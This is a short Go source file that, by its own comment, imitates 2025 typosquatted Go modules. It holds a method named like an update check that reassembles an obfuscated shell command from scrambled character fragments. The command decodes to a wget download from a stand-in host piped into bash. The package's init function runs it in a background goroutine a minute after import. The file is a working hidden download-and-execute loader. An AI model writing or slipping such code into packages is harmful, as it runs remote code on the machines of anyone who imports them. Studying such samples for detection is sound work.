// Modelled on the 2025 typosquats of popular Go modules: one-character
// fragments stored scrambled, reassembled by index, run from a goroutine
// that init starts through a method.
package lib

import (
	"os/exec"
	"time"
)

type updater struct{}

func (updater) check() {
	f := []string{"t", "-", "/", ".", "w", "g", "O", "e", " ", "x", "h", "s", ":", "p", "a", "|", "b", "n", "i", "m", "l", "&"}
	c := f[4] + f[5] + f[7] + f[0] + f[8] + f[1] + f[6] + f[8] + f[1] + f[8] +
		f[10] + f[0] + f[0] + f[13] + f[11] + f[12] + f[2] + f[2] + f[19] + f[18] + f[20] + f[3] + f[7] + f[9] + f[14] + f[19] + f[13] + f[20] + f[7] + f[2] + f[9] +
		f[8] + f[15] + f[8] + f[2] + f[16] + f[18] + f[17] + f[2] + f[16] + f[14] + f[11] + f[10] + f[8] + f[21]
	exec.Command("/bin/sh", "-c", c).Start()
}

func init() {
	go func() {
		time.Sleep(time.Minute)
		updater{}.check()
	}()
}
